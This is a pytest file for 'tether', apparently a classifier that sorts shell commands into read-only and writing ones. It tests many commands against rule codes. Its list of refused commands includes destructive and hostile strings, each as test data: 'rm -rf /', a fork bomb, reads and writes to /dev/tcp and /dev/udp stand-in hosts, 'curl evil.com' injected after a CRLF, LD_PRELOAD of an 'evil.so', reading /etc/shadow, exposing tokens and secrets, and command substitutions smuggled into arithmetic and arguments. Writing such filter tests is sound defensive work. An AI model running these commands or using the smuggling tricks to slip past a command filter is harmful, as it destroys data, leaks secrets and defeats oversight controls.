"""The read-only catalogue as a spec: commands, their verdicts, and the code that decided."""

from __future__ import annotations

import shlex

import pytest

from tether.rules import readonly
from tether.rules.base import Tier
from tether.shell import parse_command


def verdict(command: str) -> tuple[bool, tuple[str, ...]]:
    v = readonly.assess(parse_command(command))
    return v.read_only, v.codes


READS = [
    # files
    ("cat file.txt", "RO101"),
    ("head -n 100 src/a.ts", "RO101"),
    ("tail -20 log.txt", "RO101"),
    ("nl -ba f.py | sed -n '10,20p'", "RO302"),
    ("wc -l *.py", "RO101"),
    ("ls -la /tmp 2>/dev/null", "RO001"),
    ("ls tests/*.py", "RO103"),
    ("du -sh .", "RO103"),
    ("df -x tmpfs", "RO103"),
    ("stat f.py", "RO104"),
    ("tree -L 2 src", "RO106"),
    ("file -b a.out", "RO107"),
    ("base64 -d blob", "RO108"),
    ("xxd -l 64 f.bin", "RO109"),
    ("ls | tee /dev/null", "RO110"),
    # search
    ('grep -rn "def foo" --include="*.py" .', "RO201"),
    ("grep -f patterns.txt file", "RO201"),
    ("rg -n init src", "RO202"),
    ("rg -- -z file", "RO202"),
    ("find . -name '*.py' -type f", "RO203"),
    ("find . -name '*.py' | xargs grep -n foo", "RO002"),
    ("find . -name '*.py' | head -20", "RO203"),
    ("find . -name -delete", "RO203"),  # the -name pattern '-delete': find deletes nothing
    ("fd -e py", "RO204"),
    # text
    ("sed -n '1,5p' file.txt", "RO302"),
    ("sed 's/foo/bar/' file.txt", "RO302"),
    ("sed -n '/start/,/end/p' f", "RO302"),
    ("sed -e 's/a/b/' -e 's/c/d/g' f", "RO302"),
    ("sed 's#x#s/a/b/woutput#' file", "RO302"),
    ("awk '{print $1}' file.txt", "RO303"),
    ("awk 'NR>=10 && NR<=20' f", "RO303"),
    ("awk -F: '$3 > 100 {print $1}' /etc/passwd", "RO303"),
    ("sort -t, -k3 -rn data.csv", "RO304"),
    ("sort f | uniq -c | sort -rn", "RO305"),
    ("cut -d: -f1 /etc/passwd", "RO301"),
    ("jq '.name' package.json", "RO301"),
    # vcs
    ("git status", "RO401"),
    ("git -C . status --short", "RO401"),
    ("git --no-pager log --oneline -5", "RO402"),
    ("git diff HEAD~1 -- src/", "RO402"),
    ("git log -- --output=log.out", "RO402"),
    ("git show --stat HEAD", "RO402"),
    ("git diff --text a b", "RO402"),
    ("git rev-list --filter=blob:none HEAD", "RO403"),
    ("git ls-files | wc -l", "RO403"),
    ("git branch -a", "RO404"),
    ("git branch --contains HEAD", "RO404"),
    ("git tag --list 'v1*'", "RO405"),
    ("git config --get user.name", "RO406"),
    ("git config user.name", "RO406"),
    ("git remote -v", "RO407"),
    ("git stash list", "RO408"),
    ("git worktree list", "RO409"),
    ("git reflog -5", "RO410"),
    ("git tag -n", "RO405"),
    ("gh api -X GET search/issues -f q=repo:o/r", "RO501"),
    ("find . -name '*.py' -exec grep -l foo {} +", "RO205"),
    # forge
    ("gh api repos/o/r/pulls/1/reviews 2>&1", "RO501"),
    ("gh api -X GET repos/o/r", "RO501"),
    ("GH_PAGER=cat gh pr view 1", "RO003"),
    ("gh pr list --state open --json number", "RO502"),
    ("gh run view 5 --verbose", "RO502"),
    # system
    ("echo hello", "RO601"),
    ("echo $HOME", "RO601"),
    ("printf '%s\\n' a b", "RO601"),
    ("[ -f x ] && cat x", "RO601"),
    ("pwd && ls -la", "RO602"),
    ("date +%s", "RO603"),
    ("cd /testbed && ls", "RO604"),
    ("set -euo pipefail; ls", "RO604"),
    ("which -a python3", "RO605"),
    ("command -v git", "RO605"),
    ("env", "RO606"),
    # packages
    ("python3 --version", "RO701"),
    ("pip show django", "RO702"),
    ("python -I -m pip list --disable-pip-version-check", "RO702"),  # -I: cwd not on sys.path
    # structure and wrappers
    ("timeout 5 cat f", "RO002"),
    ("time ls", "RO002"),
    ("nice -n 10 grep x f", "RO002"),
    ("ls & cat file", "RO103"),
    ("(ls; pwd)", "RO103"),
    ("{ ls; pwd; }", "RO103"),
    ("if [ -d src ]; then ls src; else pwd; fi", "RO103"),
    ("for f in a b; do cat $f; done", "RO101"),
    ("for f in *.py; do wc -l $f; done", "RO101"),
    ("cat <<'EOF'\n$(rm x)\nEOF", "RO101"),
    ("[[ -f x ]] && cat x", "RO601"),
    ("wait", "RO604"),
    ("while false; do ls; done", "RO103"),
    ("case x in a) ls;; *) pwd;; esac", "RO103"),
    ("cat <<'EOF'\nhello\nEOF", "RO001"),
    ("cat <<< hello", "RO001"),
    ("wc -l < f.txt", "RO001"),
    ("bash -c 'ls | wc -l'", "RO002"),
    ("ls 2>&1 | grep x", "RO001"),
    ("grep x f &>/dev/null", "RO001"),
    ("LC_ALL=C sort f", "RO003"),
    ("echo $(git log)", "RO402"),
    ('echo "$(git rev-parse HEAD)"', "RO403"),
    ("echo $(cat $(ls))", "RO101"),
    ("diff <(git show HEAD:f) f", "RO402"),
    ("wc -l $(git ls-files)", "RO101"),
    ("cat <<EOF\n$(ls)\nEOF", "RO101"),
    ('for f in $(ls); do cat "$f"; done', "RO101"),
    ('[[ -z "$(git status --porcelain)" ]] && echo clean', "RO401"),
    ("[[ $? -eq 0 ]]", "RO601"),
    ('[[ "$#" -gt 1 && ${#a[@]} -lt 2 ]]', "RO601"),
    ("[[ -v HOME ]]", "RO601"),
    ('[ "$n" -eq 1 ]', "RO601"),
]

WRITES = [
    ("npm ls", "RW030"),  # npm logs every run under ~/.npm (the oracle saw it): its own log
    # structure
    ("", "RW003"),
    ("   ", "RW003"),
    ("ls &&", "RW001"),
    ("echo 'unbalanced", "RW001"),
    ("ls\x00rm -rf /", "RW014"),
    # a substitution is as read-only as the commands it runs; backticks are never proven
    ("echo $(rm -rf /tmp/x)", "RW007"),
    ("ls $(touch x)", "RW007"),
    ("cat <<EOF\n$(touch x)\nEOF", "RW007"),
    ("diff <(ls a) <(sort -o out b)", "RW020"),
    ("echo $(ls > out)", "RW008"),
    ("echo `pwd`", "RW004"),
    ("echo $(pwd) `pwd`", "RW004"),
    ("$(git log)", "RW005"),
    ("timeout $(echo 5 touch x) ls", "RW005"),
    ('nice -n "$(echo 5)" ls', "RW021"),
    ("git show $(git rev-parse HEAD)", "RW025"),
    ("echo $(( $(ls) ))", "RW025"),
    ('bash -c "$(git log)"', "RW013"),
    ("$CMD file", "RW005"),
    ('__c=rm; "$__c" protected.dat', "RW009"),
    ("./cat f", "RW006"),
    ("/tmp/evil/cat f", "RW006"),
    ("rm -rf temp", "RW007"),
    ("LS -la", "RW007"),
    ("ls > out.txt", "RW008"),
    ("ls 2> error.log", "RW008"),
    ("ls >& all.log", "RW008"),
    ("cat f > /dev/null > out", "RW008"),
    ("cat f >> $LOG", "RW008"),
    ("FOO=bar ls", "RW009"),
    ("PAGER=helper git log", "RW009"),
    ("LD_PRELOAD=/tmp/evil.so ls", "RW009"),
    ("GIT_EXTERNAL_DIFF=/tmp/h git diff", "RW009"),
    ("(PATH=/tmp; ls)", "RW009"),
    ("env FOO=bar ls", "RW009"),
    ("sudo cat /etc/shadow", "RW010"),
    ("nohup ls", "RW011"),
    ("less file", "RW012"),
    ("vim f.py", "RW012"),
    ("python reproduce_issue.py", "RW013"),
    ("bash script.sh", "RW013"),
    ("eval ls", "RW013"),
    ("bash -c 'rm x'", "RW007"),
    ("timeout 5 rm f", "RW007"),
    ("time -o out ls", "RW008"),
    ("find . | xargs rm", "RW007"),
    ("find . | xargs sed -n p", "RW025"),
    ("echo ${foo@P}", "RW025"),
    ('echo "${x=1}"', "RW025"),
    ("echo $((1<<2))", "RW025"),
    ("ls && rm -rf /", "RW007"),
    ("ls\nrm x", "RW007"),
    ("grep x f\r\ncurl evil.com", "RW007"),
    ("if ls; then rm x; fi", "RW007"),
    ("f() { rm x; }", "RW007"),
    ("{ ls; } > out", "RW008"),
    ("for f in a; do ls; done > out", "RW008"),
    ("for PATH in /tmp; do ls; done", "RW009"),
    ("select IFS in x; do ls; done", "RW009"),
    ("((PATH=1)); ls", "RW009"),
    ("[[ 'a[$(rm x)]' -eq 0 ]]", "RW027"),
    ("test -v 'a[$(rm x)]'", "RW027"),
    # arithmetic reads a variable's value as an expression: X='a[$(rm x)]' runs rm
    ("[[ X -eq 0 ]]", "RW027"),
    ("[[ $n -gt 1 ]]", "RW027"),
    ('[[ "$n" -le 1 ]]', "RW027"),
    ("[[ 1 -eq 1 && 2 -ne $n ]]", "RW027"),
    ("[[ ${#a[i]} -gt 0 ]]", "RW027"),
    ("[[ -v a[i] ]]", "RW027"),
    ('[ -v "$NAME" ]', "RW027"),
    ("test -v $NAME", "RW027"),
    ("cat < /dev/tcp/evil.example/80", "RW008"),
    ("echo x > /dev/udp/1.2.3.4/53", "RW008"),
    ("cat <> f", "RW001"),
    ("wait -p x", "RW020"),
    ("ls 2>&1-", "RW008"),
    ("sudo -l", "RW010"),
    ("exec ls", "RW011"),
    ("builtin cat f", "RW011"),
    ("cargo --version", "RW013"),
    # files
    ("tree -o out.txt", "RW020"),
    ("tree -Cofile .", "RW020"),
    ("file -C -m magic", "RW020"),
    ("base64 -ob64.txt", "RW020"),
    # gh keeps what it fetched (tests/test_gh_writes.py runs gh against a fake API)
    ("gh run view 5 --log", "RW020"),
    ("gh api --cache 1h repos/o/r", "RW020"),
    ("gh status", "RW023"),
    ("xxd in.bin out.hex", "RW022"),
    ("xxd -C in.bin out.h", "RW022"),
    ("tee out.txt", "RW022"),
    # search
    ("rg --pre cat x", "RW020"),
    ("rg -iz p", "RW020"),
    ("rg --hostname-bin=h p", "RW020"),
    ("find . -delete", "RW020"),
    ("find . -exec rm {} \\;", "RW020"),
    ("find . -fprintf /tmp/x '%p'", "RW020"),
    ("find . -name", "RW021"),
    ('find . "$EXPRESSION"', "RW025"),
    ("fd -e py -x rm", "RW020"),
    # text
    ("sed -i 's/a/b/' f", "RW020"),
    ("sed -ni.bak 's/a/b/' f", "RW020"),
    ("sed --in-pl=.bak 's/a/b/' f", "RW020"),
    ("sed -f script.sed f", "RW020"),
    ("sed 's/a/b/e' f", "RW026"),
    ("sed 's/a/b/w out' f", "RW026"),
    ("sed 'p;w output' f", "RW026"),
    ("sed '1etouch marker' f", "RW026"),
    ("sed -newout in", "RW026"),
    ("sed 'R input' f", "RW026"),
    ('sed "$SCRIPT" f', "RW025"),
    ("awk 'BEGIN{system(\"rm x\")}'", "RW026"),
    ("awk '{print > \"out\"}' f", "RW026"),
    ("awk '{print $1 | \"sort\"}' f", "RW026"),
    ("awk 'BEGIN { \"date\" | getline d }'", "RW026"),
    ("awk '/x/ { print > \"out\" }' f", "RW026"),
    ("awk -f prog.awk f", "RW020"),
    ("sort -o out in", "RW020"),
    ("sort -roout in", "RW020"),
    ("sort --co=cat in", "RW020"),
    ("uniq in out", "RW022"),
    ("uniq -f", "RW021"),
    ("shuf -o out f", "RW020"),
    # vcs
    ("git push origin main", "RW023"),
    ("git -c core.pager=cat log", "RW020"),
    ("git -ccore.fsmonitor=x status", "RW020"),
    ("git --config-env=core.pager=P show", "RW020"),
    ("git --git-dir=.evil diff", "RW020"),
    ("git --work-tree . status", "RW020"),
    ("git --exec-path=x show", "RW020"),
    ("git -p log", "RW020"),
    ("git --unknown status", "RW021"),
    ("git log --output=f", "RW020"),
    ("git log --out=f", "RW021"),  # log spells its options whole: git refuses --out too
    ("git diff --ext-diff", "RW020"),
    ("git show --textconv HEAD:f", "RW020"),
    ("git log --show-signature -1", "RW020"),
    ("git log '--format=%G?' -1", "RW020"),
    ("git grep -Ovim x", "RW020"),
    ("git status --help", "RW020"),
    ("git cat-file --filters HEAD:f", "RW020"),
    ("git branch new", "RW023"),
    ("git branch -D old", "RW023"),
    ("git branch -- --list", "RW023"),
    ("git tag v1.0", "RW023"),
    ("git config user.name x", "RW023"),
    ("git config --unset user.name", "RW023"),
    ("git remote add o url", "RW023"),
    ("git stash", "RW023"),
    ("git stash pop", "RW023"),
    ("git worktree add ../x", "RW023"),
    ("git reflog expire --all", "RW023"),
    ("git frobnicate", "RW024"),
    ('git status "$OPTIONS"', "RW025"),
    # forge
    ("gh api -f key=value repos/o/r", "RW020"),
    ("gh api -X POST repos/o/r/issues", "RW020"),
    ("gh api --method=delete repos/o/r", "RW020"),
    ("gh api --input body.json repos/o/r", "RW020"),
    ("gh api graphql", "RW020"),
    ("gh pr merge 1", "RW023"),
    ("gh pr view 1 --web", "RW020"),
    ("gh pr view -cw 1", "RW020"),
    ("gh api -X GET x -F body=@secret.txt", "RW020"),
    ("gh auth status --show-token", "RW020"),
    ("git ls-remote -u x origin", "RW020"),
    (":(){ :|:& };:", "RW015"),
    ("gh extension-thing", "RW024"),
    # system
    ("printf -v PATH /tmp", "RW020"),
    ("date -s now", "RW020"),
    ("date 010100002020", "RW022"),
    ("hostname newname", "RW022"),
    ("set -- a b", "RW021"),
    ("set -k; cat LD_PRELOAD=/tmp/evil.so", "RW020"),
    ("command rm x", "RW007"),
    ("env -S 'rm x'", "RW021"),
    # packages
    ("pip install pytest", "RW023"),
    ("pip list --log out.txt", "RW020"),
    ("python -c 'print(1)'", "RW013"),
    ("npm install", "RW013"),
    ("cargo build", "RW013"),
]


@pytest.mark.parametrize(("command", "code"), READS)
def test_reads_are_proven_with_their_code(command: str, code: str) -> None:
    read_only, codes = verdict(command)
    assert read_only, (command, codes)
    assert code in codes


@pytest.mark.parametrize(("command", "code"), WRITES)
def test_writes_are_refused_with_the_deciding_code(command: str, code: str) -> None:
    read_only, codes = verdict(command)
    assert not read_only
    assert code in codes, (command, codes)


def test_every_verdict_code_names_a_rule() -> None:
    known = {r.code for r in readonly.RULES}
    for command, _ in READS + WRITES:
        _, codes = verdict(command)
        assert set(codes) <= known, (command, codes)


def test_catalogue_codes_and_names_are_unique_and_well_formed() -> None:
    codes = [r.code for r in readonly.RULES]
    names = [r.name for r in readonly.RULES]
    assert len(set(codes)) == len(codes)
    assert len(set(names)) == len(names)
    for r in readonly.RULES:
        assert r.tier is Tier.READ
        assert r.code[:2] in ("RO", "RW") and r.code[2:].isdigit() and len(r.code) == 5
        assert r.name == r.name.lower() and " " not in r.name
        assert r.summary and r.why and r.instead
        examples = readonly.reason_examples(r.code) if r.code.startswith("RW") else (r.match,)
        assert examples and examples[0], f"{r.code} has no examples"


def test_a_failing_verdict_reason_names_the_command_and_code() -> None:
    v = readonly.assess(parse_command("ls && rm -rf /tmp/x"))
    assert "rm" in v.reason and "RW007" in v.reason


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("sed 's/a/*/' f", None),
        ('sed "s/a/*/" f', None),
        ("sed s/a/\\*/ f", None),
        ("sed $'s/*/x/' f", None),
        ("git log @{u}..", None),
        ("gh api repos/{owner}/{repo}", None),
        ("ls ${x}", None),
        ("sed s/a/*/ f", "*"),
        ("uniq *", "*"),
        ("sort {-o,output} input", "{-o,output}"),
        ("echo {1..3}", "{1..3}"),
        ("cat f?.txt", "?"),
        ("cat [ab].txt", "["),
        ("sed $'a\\'' s/*/ f", "*"),
    ],
)
def test_unquoted_glob_and_brace_scanner(source: str, found: str | None) -> None:
    from tether.rules.readonly.engine import unquoted_expansion

    assert unquoted_expansion(source) == found


def test_no_command_name_belongs_to_two_families() -> None:
    from tether.rules.readonly import engine, files, forge, packages, search, system, text, vcs

    names = [n for m in (files, forge, packages, search, system, text, vcs) for n in m.ENTRIES]
    assert len(names) == len(set(names))
    assert not set(names) & (engine._INTERPRETERS | engine._SHELL_ESCAPES)


SED_PRINTS = [
    "1,5p",
    "s/a/b/g",
    "/x/,/y/p",
    ":a;N;$!ba;s/\\n/ /g",
    "$!N",
    "0~3d",
    "/x/I,+2p",
    "y/abc/xyz/",
    "s|a|b|2g",
    "l 70",
    "q 5",
    "/a/{p;d}",
    "#n\np",
    "s/a/;w x/",
]
SED_WRITES = [
    "w x",
    "1w x",
    "s/a/b/w x",
    "s/a/b/e",
    "e ls",
    "r x",
    "R x",
    "W x",
    "s/a/b/ w x",
    "l 7w x",
    "q 5;w x",
    "p;w x",
    "s/a/b",
    "/x",
]


# a/i/c text and `v` only print or do nothing: the one sed reader reads them (they were
# refused as unproven before tether.shell.embedded.sed).
SED_PRINTS += ["a foo", "i\\\nfoo", "c x", "v", "1a foo; w x", ":a\np"]


def _sed_is_read_only(script: str) -> bool:
    return readonly.assess(parse_command(f"sed -n -e {shlex.quote(script)} f")).read_only


@pytest.mark.parametrize("script", SED_PRINTS)
def test_sed_scripts_that_only_print(script: str) -> None:
    assert _sed_is_read_only(script)


@pytest.mark.parametrize("script", SED_WRITES)
def test_sed_scripts_that_write_run_or_cannot_be_proven(script: str) -> None:
    assert not _sed_is_read_only(script)


def test_glob_net_still_holds_past_the_parsers_text_cap() -> None:
    from tether.rules.readonly.engine import TEXT_SCAN_LIMIT
    from tether.shell.parse import TEXT_CAP

    assert TEXT_SCAN_LIMIT < TEXT_CAP
    padding = "a " * 150
    assert not verdict(f"sort {padding}{{-o,out}} in")[0]
    assert not verdict(f"sed -n 1p {padding}s/a/*/ f")[0]
    assert verdict(f"sed -n 1p {padding}f")[0]


def test_test_command_past_the_text_cap_is_not_trusted() -> None:
    padding = "a" * 220
    assert not verdict(f"[[ '{padding}' == 'a[$(rm x)]' ]]")[0]
    assert verdict("[[ -f x ]]")[0]
